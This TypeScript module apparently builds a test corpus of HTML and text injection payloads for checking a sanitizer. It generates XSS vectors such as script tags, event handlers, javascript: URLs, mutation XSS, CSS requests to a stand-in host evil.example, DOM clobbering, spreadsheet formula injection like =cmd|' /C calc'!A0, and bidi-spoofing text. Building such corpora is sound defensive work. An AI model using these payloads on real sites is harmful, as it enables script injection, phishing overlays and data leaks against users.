/** The program of every attack; a page that shows this dialog has run it. */
export const RUN = 'alert(1)'

/** One address that runs a script, spelled in the ways that parsers of addresses and filters read differently. */
export const SCRIPT_ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\tjavascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript\r:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\u2028javascript:${RUN}`,
  `\ufeffjavascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&#58;${RUN}`,
  `&#0000106avascript:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script>*/${RUN}`,
  `javascript:void(0);${RUN}`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${RUN}</script>`,
  `blob:null/00000000-0000-0000-0000-000000000000`,
  `filesystem:null/temporary/a.html`,
  `about:blank#${RUN}`,
]

/** In an attribute with double quotes. */
const quoted = (value: string): string => value.replaceAll('"', '&quot;')

/** Style that asks elsewhere, runs, or lays an element over the page. */
const DECLARATIONS = (elsewhere: string): readonly string[] => [
  `background:url(${elsewhere}/a)`,
  `background-image:image-set('${elsewhere}/a' 1x)`,
  `list-style:url(${elsewhere}/a)`,
  `cursor:url(${elsewhere}/a),auto`,
  `content:url(${elsewhere}/a)`,
  `border-image:url(${elsewhere}/a)`,
  `mask:url(${elsewhere}/a)`,
  `filter:url(${elsewhere}/a#x)`,
  `--a:url(${elsewhere}/a);background:var(--a)`,
  `behavior:url(${elsewhere}/a.htc)`,
  `-moz-binding:url(${elsewhere}/a.xml#x)`,
  `width:expression(${RUN})`,
  `background:url(javascript:${RUN})`,
  'position:fixed;inset:0;z-index:2147483647;background:#fff',
  'position:absolute;top:0;left:0;width:100vw;height:100vh',
  'position:sticky;top:0;z-index:99',
  'transform:scale(99)',
  'margin:-9999px;padding:9999px',
  'font-size:9999px',
  'display:contents;float:left;width:9999px;height:9999px;margin-top:-500px',
  'pointer-events:none;opacity:0',
  'animation:x 1s;animation-name:x',
]
const WEARERS = ['div', 'p', 'span', 'td', 'img alt=x', 'a href="https://ok.example"']

/** Names by which an element takes the place of a property of the window, the document or a form. */
const CLOBBERED =
  'document location cookie body head forms images children attributes parentNode firstChild nodeName getElementById querySelector createElement ' +
  'addEventListener defaultView currentScript __next __NEXT_DATA__ next self webpackChunk config apiHost hall'

const dressAttacks = (elsewhere: string): readonly string[] => [
  ...DECLARATIONS(elsewhere).flatMap((style) => [
    ...WEARERS.map((tag) => `<${tag} style="${style}">x</${tag.split(' ')[0]}>`),
    `<style>*{${style}}</style>`,
  ]),
  `<style>@import url(${elsewhere}/a.css);</style>`,
  `<style>@import '${elsewhere}/a.css';</style>`,
  `<style>@font-face{font-family:x;src:url(${elsewhere}/a)}*{font-family:x}</style>`,
  `<style>input[value^="a"]{background:url(${elsewhere}/a)}</style>`,
  `<svg><style>@import url(${elsewhere}/a.css);</style></svg>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<dialog open style="position:fixed">x</dialog>`,
  `<div popover=manual id=x>x</div><button popovertarget=x autofocus>x</button>`,
  `<marquee behavior=alternate loop=-1 scrollamount=999>x</marquee>`,
  `<font size=999 color=white face=x>x</font>`,
  `<table width=9999 height=9999><tr><td width=9999 height=9999>x</td></tr></table>`,
  `<img alt=x width=99999 height=99999 hspace=999 vspace=999 border=999>`,
  ...CLOBBERED.split(' ').flatMap((name) => [
    `<a id=${name} name=${name} href="https://ok.example">x</a>`,
    `<form id=${name}><input name=${name} id=attributes></form>`,
    `<img name=${name} alt=x>`,
  ]),
]

const HIDING =
  '\u202a \u202b \u202d \u202e \u2066 \u2067 \u2068 \u200b \u200e \u200f \u2060 \ufeff \u00ad \u061c \u180e'

/** Texts without markup that may be taken for another thing: by readers, a template or a spreadsheet. */
const textAttacks: readonly string[] = [
  ...HIDING.split(' ').map((mark) => `余额${mark}00.0001${mark}¥ 存款成功`),
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '[[${alert(1)}]]',
  "';alert(1);//",
  '"-alert(1)-"',
  '`-alert(1)-`',
  '\\"-alert(1)//',
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+1+cmd',
  '\r\nSet-Cookie: a=1',
  '"><svg/onload=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '*/alert(1)/*',
  `${'\u0301'.repeat(100)}x`,
  'W'.repeat(300),
  `${'<b>'.repeat(40)}x`,
  `${'<div>'.repeat(40)}x${'</div>'.repeat(40)}`,
  '__proto__',
  '{"__proto__":{"x":1}}',
  'null\u0000byte',
  '\ud800',
]

const plain = `<script>${RUN}</script>`
const image = `<img src=x onerror=${RUN}>`

/** A script element in every form that some parser has run. */
const scripts = (elsewhere: string): readonly string[] => [
  plain,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script >${RUN}</script >`,
  `<script\u000b>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<script>${RUN}//`,
  `<script type=module>${RUN}</script>`,
  `<script type=text/vbscript>MsgBox(1)</script>`,
  `<script language=JScript.Encode>${RUN}</script>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<script src=//${elsewhere.replace(/^https?:\/\//, '')}/a.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=importmap>{"imports":{"x":"${elsewhere}/a.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${elsewhere}/a"]}]}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script\u0000>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>&#97;lert(1)</script></svg>`,
  `<svg><script><![CDATA[${RUN}]]></script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<template shadowrootmode=open>${plain}</template>`,
  `<iframe srcdoc="${plain}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,${plain}"></object>`,
  `<embed code="${elsewhere}/x.swf" allowscriptaccess=always>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<!DOCTYPE html [<!ENTITY x "${plain}">]>&x;`,
  `<xml id=x><a><b>${plain}</b></a></xml>`,
]

/** Elements whose content is text to one parser and markup to another. */
const RAW =
  'style title textarea xmp iframe noembed noframes noscript template plaintext listing comment'
const FOREIGN = ['svg', 'math', 'svg><desc', 'svg><title', 'svg><foreignObject', 'math><mtext']
const INSIDE = ['style', 'title', 'textarea', 'noscript', 'xmp', 'script', 'mglyph', 'malignmark']

/** Markup that is harmless when it is read, and not when what was read is written and read again. */
const mutations = (): readonly string[] => [
  ...RAW.split(' ').flatMap((tag) => [
    `<${tag}>${image}</${tag}>`,
    `<${tag}></${tag} >${image}`,
    `<p title="</${tag}>${image}">x</p>`,
    `<${tag}><a title="</${tag}>${image}">x</a></${tag}>`,
    `<${tag}><!--</${tag}>${image}-->`,
  ]),
  ...FOREIGN.flatMap((outer) =>
    INSIDE.map((inner) => `<${outer}><${inner}><a id="</${inner}>${image}">x</a></${inner}>`),
  ),
  ...['p', 'br', 'table', 'b', 'ul', 'span', 'h1', 'center'].flatMap((breaker) => [
    `<svg></${breaker}><style><a id="</style>${image}">`,
    `<math><${breaker}><style><!--</style>${image}--></math>`,
  ]),
  ...['table', 'select', 'colgroup', 'caption', 'frameset', 'form'].flatMap((strict) => [
    `<${strict}>${image}</${strict}>`,
    `<${strict}><svg><style><td title="</style>${image}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}<${strict}>`,
  ]),
]

const comments: readonly string[] = [
  `<!-->${image}-->`,
  `<!--->${image}-->`,
  `<!-- --!>${image}-->`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[${image}]]>`,
  `<svg><![CDATA[><image xlink:href="]]>${image}"></svg>`,
  `<?php ${image} ?>`,
  `<!${image}>`,
  `</ ${image}>`,
  `<%${image}%>`,
  `<!--[if gte IE 4]>${plain}<![endif]-->`,
  `<comment>${image}</comment>`,
]

const encodings: readonly string[] = [
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `<\u0000img src=x onerror=${RUN}>`,
  `<img\u0000 src=x onerror=${RUN}>`,
  `<im\u00adg src=x onerror=${RUN}>`,
  `\u0000\u0008\u000b<img src=x onerror=${RUN}>`,
]

const scriptAttacks = (elsewhere: string): readonly string[] => [
  ...scripts(elsewhere),
  ...mutations(),
  ...comments,
  ...encodings,
]

/** Everything in HTML, SVG and MathML that takes an address. */
const CARRIERS: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<a href='#' ping="${to}">x</a>`,
  (to) => `<area href="${to}" shape=default>`,
  (to) => `<img src="${to}">`,
  (to) => `<img lowsrc="${to}" dynsrc="${to}">`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<object data="${to}" type="text/html"></object>`,
  (to) => `<embed src="${to}" type="text/html">`,
  (to) => `<form action="${to}"><input type=submit autofocus></form>`,
  (to) => `<button form=x formaction="${to}">x</button>`,
  (to) => `<input type=image src="${to}" formaction="${to}">`,
  (to) => `<link rel=stylesheet href="${to}">`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<base href="${to}">`,
  (to) => `<video src="${to}" poster="${to}" autoplay></video>`,
  (to) => `<audio src="${to}" autoplay></audio>`,
  (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
  (to) => `<svg><a href="${to}"><rect width=99 height=99 /></a></svg>`,
  (to) => `<svg><script href="${to}"></script></svg>`,
  (to) => `<math><mtext><a href="${to}">x</a></mtext><mi xlink:href="${to}">x</mi></math>`,
]

const SPARSE: readonly ((address: string) => string)[] = [
  (to) => `<table background="${to}"><tr><td background="${to}">x</td></tr></table>`,
  (to) => `<body background="${to}">x</body>`,
  (to) => `<blockquote cite="${to}">x</blockquote>`,
  (to) => `<applet code="${to}" archive="${to}"></applet>`,
  (to) => `<bgsound src="${to}">`,
  (to) => `<frameset><frame src="${to}"></frameset>`,
  (to) => `<html manifest="${to}">`,
  (to) => `<isindex action="${to}" type=image src="${to}">`,
  (to) => `<track src="${to}" default>`,
  (to) => `<svg><use href="${to}#x"></use></svg>`,
  (to) => `<svg><animate attributeName=href values="${to}"></animate></svg>`,
  (to) => `<svg><set attributeName=href to="${to}"></set></svg>`,
]

/** Every carrier of an address with a script in it, and with an address of elsewhere that would be asked. */
const addressAttacks = (elsewhere: string): readonly string[] => {
  const asked = [`${elsewhere}/a`, `${elsewhere.replace(/^https?:/, '')}/a`].map(quoted)
  const scripts = SCRIPT_ADDRESSES.map(quoted)
  const inImages = CARRIERS.filter((carry) => !carry('').startsWith('<img src'))
  return [
    ...CARRIERS.flatMap((carry) => scripts.map(carry)),
    ...SPARSE.flatMap((carry) => scripts.slice(0, 4).map(carry)),
    // Pictures of elsewhere are shown: a platform's are at its picture host.
    ...[...inImages, ...SPARSE].flatMap((carry) => asked.map(carry)),
    `<img srcset="${elsewhere}/a 1x, ${elsewhere}/b 2x">`,
    `<picture><source srcset="${elsewhere}/a"><img alt=x></picture>`,
    `<link rel=preload as=script href="${elsewhere}/a"><link rel=dns-prefetch href="${elsewhere}">`,
    `<link rel=prerender href="${elsewhere}/a"><link rel=modulepreload href="${elsewhere}/b">`,
  ]
}

const EVENTS =
  'load error click dblclick mouseover mouseenter mousemove mousedown mouseup pointerover pointerenter pointerdown pointermove touchstart touchend wheel scroll scrollend ' +
  'focus focusin blur input change beforeinput select copy cut paste keydown keyup toggle beforetoggle beforematch animationstart animationend animationiteration ' +
  'transitionrun transitionstart transitionend transitioncancel begin end repeat start finish bounce loadstart loadeddata loadedmetadata canplay play playing timeupdate ' +
  'volumechange hashchange popstate pageshow pagehide message storage unload beforeunload resize invalid submit reset search formdata cancel close cuechange ' +
  'contextmenu drag dragstart drop gotpointercapture securitypolicyviolation slotchange webkitanimationstart contentvisibilityautostatechange'

/** Each event at an element that can bring it about by itself or at a touch. */
const ACTORS: readonly ((handler: string) => string)[] = [
  (on) => `<img src=x ${on}>`,
  (on) => `<div tabindex=1 autofocus contenteditable ${on}>x</div>`,
  (on) => `<svg ${on}><circle r=9 ${on}></circle></svg>`,
  (on) => `<details open ${on}><summary ${on}>x</summary></details>`,
]

/** An attribute written in the ways in which a parser still reads it as one. */
const SPELLED: readonly string[] = [
  `onerror=${RUN}`,
  `ONERROR=${RUN}`,
  `/onerror=${RUN}`,
  `"onerror=${RUN}`,
  `\u000conerror=${RUN}`,
  `onerror\n=\n${RUN}`,
  `onerror="${RUN}"`,
  `onerror='${RUN}'`,
  'onerror=`alert\u00281)`',
  'onerror=alert`1`',
  'onerror=&#97;lert(1)',
  'onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)',
  'onerror=window["al"+"ert"](1)',
  'onerror=top[8680439..toString(30)](1)',
  'onerror=eval(atob("YWxlcnQoMSk="))',
  'onerror=location="javascript:alert(1)"',
  'onerror=setTimeout("alert(1)")',
  'onerror=import("data:text/javascript,alert(1)")',
  `alt=\`x\` onerror=${RUN}`,
  `title="a>b" onerror=${RUN}`,
]

const ELEMENTS =
  'a abbr article audio body button canvas center code custom-tag dialog embed fieldset font form frameset h1 iframe input keygen label li link marquee meter object ol ' +
  'option p param picture pre progress q script section select source span strong style table td template textarea time tr track u ul video xss'

const handlers: readonly string[] = [
  ...EVENTS.split(' ').flatMap((event) => ACTORS.map((carry) => carry(`on${event}=${RUN}`))),
  ...SPELLED.flatMap((attribute) => [
    `<img src=x ${attribute}>`,
    `<p><img/src="x"${attribute}></p>`,
  ]),
  ...ELEMENTS.split(' ').map(
    (tag) => `<${tag} onclick=${RUN} onfocus=${RUN} onload=${RUN} autofocus tabindex=0>x</${tag}>`,
  ),
]

/** The attacks that every page which draws HTML is shown (ASVS 1.3). */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="ftp://evil.example/p.png">',
  '<img src="javascript:alert(1)">',
  '<img srcset="https://evil.example/a 1x" src="https://ok.example/a.png" onload=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://user@evil.example">x</a>',
  '<a href="https://a.example" onclick="alert(1)" style="position:fixed;inset:0" target="_top">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="https://evil.example/">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<div style="background:url(https://evil.example/x);position:fixed;inset:0;z-index:9999">x</div>',
  '<body onload=alert(1) background="https://evil.example/x">',
  '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">1</td></tr></table>',
  '<video src="https://evil.example/x" poster="https://evil.example/y" onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)><source src="https://evil.example/x">',
  '<form action="https://evil.example"><input name=a autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<div id="__next" class="x" name="cookie">clobber</div><a id=config name=apiHost href="https://evil.example">x</a>',
  '<img name="getElementById" src="https://ok.example/a.png">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<div contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>',
  // Links and forms
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="//evil.example\\@ok.example">x</a>',
  '<area href="javascript:alert(1)" shape=default>',
  '<button form=f formaction="javascript:alert(1)">x</button><form id=f action="https://evil.example"></form>',
  '<input type=image src="https://evil.example/x" onerror=alert(1)>',
  // Frames and documents
  '<iframe src="javascript:alert(1)"></iframe>',
  '<frameset><frame src="https://evil.example"></frameset>',
  '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
  '<portal src="https://evil.example"></portal>',
  '<meta http-equiv="set-cookie" content="a=1"><meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // SVG and MathML
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:alert(1)"><a id=x><text>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><image href="https://evil.example/x.svg" onload=alert(1)></svg>',
  '<svg><style>@import url(https://evil.example/x.css);</style></svg>',
  // Parsed twice, read differently the second time
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  '<table><style><td title="</style><img src onerror=alert(1)>">',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><a href="</title><img src=x onerror=alert(1)>"></title>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  // Style
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml)">x</p>',
  '<link rel=prefetch href="https://evil.example/x"><link rel=manifest href="https://evil.example/m.json">',
  // Characters that dress one text up as another
  '\u202e00.0001¥ 额余\u202c',
  '存\u200b款\u2066\u2067成功\u2069\ufeff',
  'null\u0000byte<scr\u0000ipt>alert(1)</scr\u0000ipt>',
]

/**
 * Attacks on HTML and text, written for this project from the public classes: event handlers, addresses with scripts,
 * script elements, markup that changes when it is read twice, comments and encodings, style, elements that take a
 * property's name, texts that pose as others. `elsewhere` is the origin whose server no page may ask.
 */
export const attackCorpus = (elsewhere = 'https://evil.example'): readonly string[] => [
  ...new Set([
    ...ATTACKS,
    ...handlers,
    ...addressAttacks(elsewhere),
    ...scriptAttacks(elsewhere),
    ...dressAttacks(elsewhere),
    ...textAttacks,
  ]),
]

/** Ends whatever an attack has left open, so that the next one in the same text is read as it was written. */
const END =
  '--></script></style></title></textarea></xmp></noscript></noembed></noframes></iframe></template></svg></math></select></table></form></div>'

/** Attacks side by side in one HTML text. `plaintext` can't be ended and goes last. */
export const sideBySide = (attacks: readonly string[]): string =>
  attacks
    .toSorted((a, b) => Number(a.includes('<plaintext')) - Number(b.includes('<plaintext')))
    .join(`\n"'>${END}\n`)
